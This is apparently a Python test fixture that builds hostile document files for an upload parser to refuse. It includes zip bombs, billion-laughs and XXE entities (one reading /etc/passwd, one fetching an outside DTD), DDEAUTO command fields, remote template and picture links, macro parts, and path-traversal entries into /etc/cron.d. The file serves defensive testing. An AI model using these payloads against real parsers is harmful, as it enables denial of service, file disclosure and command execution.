"""Files made to harm whoever reads them, each with the reason it is refused for. All are made here, none is kept."""

import random
import struct
import zipfile
from collections.abc import Callable
from io import BytesIO

from .files import OFFICE, TYPES, docx, docx_parts, odt, odt_parts, paragraph, relations, rtf, zipped

MEGABYTE = 1024 * 1024
HELLO = "Ann: Hello"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
CUE = "1\n00:00:01,000 --> 00:00:02,000\n"
LAUGHS = "".join(f'<!ENTITY l{n + 1} "{"&l" + str(n) + ";" * 1}{f"&l{n};" * 9}">' for n in range(9))


def with_part(name: str, part: str | bytes) -> bytes:
    return zipped(docx_parts(paragraph(HELLO)) | {name: part})


def with_relation(kind: str, target: str = "http://a.example/x", mode: str = "External") -> bytes:
    told = f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return with_part("word/_rels/document.xml.rels", relations(told))


def with_body(body: str, before: str = "") -> bytes:
    parts = docx_parts(body)
    return zipped(parts | {"word/document.xml": before + str(parts["word/document.xml"])})


def with_text(body: str, before: str = "", **more: str | bytes) -> bytes:
    parts = odt_parts(body)
    return zipped(parts | {"content.xml": before + str(parts["content.xml"])} | more)


def loose(n: int) -> str:
    """So many letters that pack to half their size, as words do."""
    return random.Random(n).randbytes(n // 2).hex()  # noqa: S311


def docx_bomb(megabytes: int) -> bytes:
    """A part of blanks, packed a thousand times smaller."""
    return with_body(" " * (megabytes * MEGABYTE))


def patient_bomb() -> bytes:
    """Packed loosely enough to pass a look at the ratio, and far more paragraphs than anybody says."""
    letters = loose(4_000_000)
    return with_body("".join(f"<w:p w:x='{letters[at : at + 8]}'/>" for at in range(0, len(letters), 8)))


def lying_directory() -> bytes:
    """The directory says one byte, the part holds 30 MB."""
    made = bytearray(docx_bomb(30))
    for signature, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = made.rindex(signature + made[made.index(signature) + 4 :][:2], 0, made.rindex(b"word/document.xml"))
        made[at + place : at + place + 4] = struct.pack("<I", 1)
    return bytes(made)


def encrypted() -> bytes:
    """Every entry says that it has a password."""
    made = bytearray(docx(HELLO))
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(signature)
        while at >= 0:
            made[at + place] |= 1
            at = made.find(signature, at + 4)
    return bytes(made)


def twice_the_same_name() -> bytes:
    out = BytesIO(docx(HELLO))
    with zipfile.ZipFile(out, "a") as package:
        entry = zipfile.ZipInfo("word/document.xmk")
        package.writestr(entry, "<x/>")
    return out.getvalue().replace(b"word/document.xmk", b"word/document.xml")


def unknown_packing() -> bytes:
    made = bytearray(docx(HELLO))
    for signature, place in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        at = made.rindex(signature)
        made[at + place : at + place + 2] = struct.pack("<H", 99)
    return bytes(made)


def doctype(root: str, declared: str) -> str:
    return f"<?xml version='1.0'?><!DOCTYPE {root} [{declared}]>"


def rich(body: str) -> bytes:
    return ("{\\rtf1\\ansi " + body + "}").encode("latin-1")


DOCX: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "a part that unpacks to 30 MB": ("docx", lambda: docx_bomb(30), "packed"),
    "a part that unpacks to 120 MB": ("docx", lambda: docx_bomb(120), "packed"),
    "a bomb that packs loosely": ("docx", patient_bomb, "demanding packed long"),
    "a directory that lies about a size": ("docx", lying_directory, "packed damaged"),
    "five thousand parts": (
        "docx",
        lambda: zipped(docx_parts(paragraph(HELLO)) | {f"word/{n}.xml": "" for n in range(5_000)}),
        "packed",
    ),
    "entities that multiply": (
        "docx",
        lambda: with_body(paragraph(HELLO), doctype("x", f'<!ENTITY l0 "ha">{LAUGHS}')),
        "entities",
    ),
    "an entity from a file": (
        "docx",
        lambda: with_body(paragraph(HELLO), doctype("x", '<!ENTITY f SYSTEM "file:///etc/passwd">')),
        "entities",
    ),
    "an entity for parameters from outside": (
        "docx",
        lambda: with_body(paragraph(HELLO), doctype("x", '<!ENTITY % p SYSTEM "http://a.example/x.dtd"> %p;')),
        "entities",
    ),
    "a document type in the relations": (
        "docx",
        lambda: with_part("word/_rels/x.rels", doctype("x", "") + relations()),
        "entities",
    ),
    "a document type in the list of types": (
        "docx",
        lambda: with_part("[Content_Types].xml", doctype("x", "") + TYPES),
        "entities",
    ),
    "a template from outside": ("docx", lambda: with_relation("attachedTemplate"), "outside"),
    "a picture from outside": ("docx", lambda: with_relation("image", "\\\\a.example\\share\\x.png"), "outside"),
    "an object from outside": ("docx", lambda: with_relation("oleObject", "mhtml:http://a.example/x"), "outside"),
    "a part of another kind": ("docx", lambda: with_relation("aFChunk", "x.html", "Internal"), "nested"),
    "a field that runs a command": (
        "docx",
        lambda: with_body("<w:p><w:r><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\x</w:instrText></w:r></w:p>"),
        "outside",
    ),
    "a simple field that fetches": (
        "docx",
        lambda: with_body('<w:p><w:fldSimple w:instr=" INCLUDETEXT http://a.example/x"/></w:p>'),
        "outside",
    ),
    "a program of macros": ("docx", lambda: with_part("word/vbaProject.bin", OLE), "macros"),
    "macros under another name": (
        "docx",
        lambda: with_part(
            "[Content_Types].xml",
            TYPES.replace("officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main"),
        ),
        "macros",
    ),
    "a name that says macros": ("docm", lambda: docx(HELLO), "macros"),
    "an object inside": ("docx", lambda: with_part("word/embeddings/oleObject1.bin", OLE), "nested"),
    "a zip inside": ("docx", lambda: with_part("word/media/a.zip", zipped({"a": "a"})), "nested"),
    "a zip inside that says it is a picture": ("docx", lambda: with_part("word/media/a.png", docx(HELLO)), "nested"),
    "a path upwards": ("docx", lambda: with_part("word/../../../../etc/cron.d/x", "x"), "paths"),
    "a path from the root": ("docx", lambda: with_part("/etc/cron.d/x", "x"), "paths"),
    "a path of Windows": ("docx", lambda: with_part("C:\\x.exe", "x"), "paths"),
    "a password": ("docx", encrypted, "locked"),
    "a password, in the old wrapping": (
        "docx",
        lambda: OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
        "locked",
    ),
    "one name twice": ("docx", twice_the_same_name, "damaged"),
    "a packing nobody knows": ("docx", unknown_packing, "damaged"),
    "the first half": ("docx", lambda: docx(*[HELLO] * 500)[:900], "damaged"),
    "elements ten thousand deep": ("docx", lambda: with_body("<w:sdt>" * 10_000), "deep"),
    "an attribute of 16 MB": ("docx", lambda: with_body(f'<w:p w:x="{loose(16 * MEGABYTE)}"/>'), "demanding"),
    "more words than a conversation": ("docx", lambda: docx(*[f"Ann: {loose(10_000)}"] * 250), "long"),
    "another kind of package": ("docx", lambda: zipped({"xl/workbook.xml": "<x/>"}), "name"),
    "another kind of document": ("docx", lambda: odt(HELLO), "name"),
}
ODT: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "entities that multiply": (
        "odt",
        lambda: with_text("<text:p>Ann: x</text:p>", doctype("x", f'<!ENTITY l0 "ha">{LAUGHS}')),
        "entities",
    ),
    "a billion blanks": ("odt", lambda: with_text('<text:p>Ann:<text:s text:c="1000000000"/></text:p>'), "packed"),
    "a billion columns": (
        "odt",
        lambda: with_text(
            "<table:table><table:table-row><table:table-cell "
            'table:number-columns-repeated="999999999"/></table:table-row></table:table>'
        ),
        "packed",
    ),
    "macros": ("odt", lambda: odt(HELLO, **{"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
    "a script on opening": ("odt", lambda: with_text('<script:event-listener script:language="x"/>'), "macros"),
    "a picture from outside": ("odt", lambda: with_text('<draw:image xlink:href="http://a.example/x"/>'), "outside"),
    "a part from a file": ("odt", lambda: with_text('<text:section-source xlink:href="../../x.odt"/>'), "outside"),
    "an object inside": ("odt", lambda: with_text('<draw:object xlink:href="./Object 1"/>'), "nested"),
    "a password": (
        "odt",
        lambda: odt(HELLO, **{"META-INF/manifest.xml": '<m:a xmlns:m="m"><m:encryption-data/></m:a>'}),
        "locked",
    ),
    "a document of Word": ("odt", lambda: docx(HELLO), "name"),
    "another kind of package": ("odt", lambda: odt(HELLO, mimetype="application/epub+zip"), "name"),
}
RTF: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "groups a million deep": ("rtf", lambda: rich("{" * 1_000_000), "deep"),
    "bytes of a program": ("rtf", lambda: rich("\\bin4 abcd"), "nested"),
    "an object": ("rtf", lambda: rich("{\\object\\objemb{\\*\\objdata 0105}}"), "nested"),
    "an object by another way": ("rtf", lambda: rich("{\\*\\objdata 0105}"), "nested"),
    "a field that runs a command": ("rtf", lambda: rich("{\\field{\\*\\fldinst DDEAUTO cmd}}"), "outside"),
    "a field that fetches": ("rtf", lambda: rich('{\\field{\\*\\fldinst {INCLUDEPICTURE "http://a"}}}'), "outside"),
    "a template from outside": ("rtf", lambda: rich("{\\*\\template http://a.example/x.dot}Ann: x"), "outside"),
    "words of ten million commands": ("rtf", lambda: rich("\\b" * 5_000_000), "demanding empty"),
    "two million fonts": (
        "rtf",
        lambda: rich("{\\fonttbl" + "{\\f1\\fcharset204 ;}" * 450_000 + "}"),
        "demanding empty",
    ),
    "the first half": ("rtf", lambda: rtf(HELLO)[:-9], "damaged"),
    "no rich text at all": ("rtf", lambda: HELLO.encode(), "name"),
}
TEXT: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "eleven megabytes": ("txt", lambda: b"Ann: x\n" * (11 * MEGABYTE // 7), "big"),
    "a line of nine megabytes": ("txt", lambda: b"x" * (9 * MEGABYTE), "long"),
    "a line far too long": ("txt", lambda: b"Ann: " + b"x" * 600_000, "line"),
    "a million lines": ("txt", lambda: b"a\n" * 900_000, "long"),
    "zeros": ("txt", lambda: b"Ann: Hello\x00\x00there", "letters"),
    "bytes of no text": ("txt", lambda: bytes(range(256)) * 50, "letters"),
    "a program": ("txt", lambda: b"\x7fELF\x02\x01\x01" + bytes(500), "letters"),
    "a document that says it is text": ("txt", lambda: docx(HELLO), "name"),
    "rich text that says it is text": ("txt", lambda: rtf(HELLO), "name"),
    "a page of the web": ("txt", lambda: b"<!DOCTYPE html><html><script>x</script>", "name"),
    "a page for printing": ("txt", lambda: b"%PDF-1.7\n" + b"Ann: x\n" * 9, "name"),
    "a page for printing by its name": ("pdf", lambda: b"%PDF-1.7", "kind"),
    "nothing": ("txt", lambda: b"", "empty"),
    "nothing but blanks": ("txt", lambda: b"\xef\xbb\xbf \r\n\t\n", "empty"),
    "two million accents on a letter": ("txt", lambda: ("Ann: e" + "\u0301\u0316" * 900_000).encode(), "letters"),
    "half of a pair of UTF-16": ("txt", lambda: b"\xff\xfe" + "Ann: ".encode("utf-16-le") + b"\x3c\xd8", "letters"),
    "patterns that go back and forth": ("txt", lambda: ("[" + "a " * 30 + "\n").encode() * 15_000, ""),
    "subtitles without times": ("srt", lambda: HELLO.encode(), "times"),
    "captions without times": ("vtt", lambda: b"WEBVTT\n\nNOTE nothing\n", "times"),
    "a line of arrows": ("srt", lambda: CUE.encode() + b"-->" * 600_000, "line"),
    "tags that never end": ("vtt", lambda: ("WEBVTT\n\n" + CUE + "<v " * 150_000).encode(), ""),
    "a hundred thousand empty cues": ("srt", lambda: (CUE + "\n").encode() * 33_000, "empty"),
}
ALL = {f"{one[0]}: {name}": one for group in (DOCX, ODT, RTF, TEXT) for name, one in group.items()}
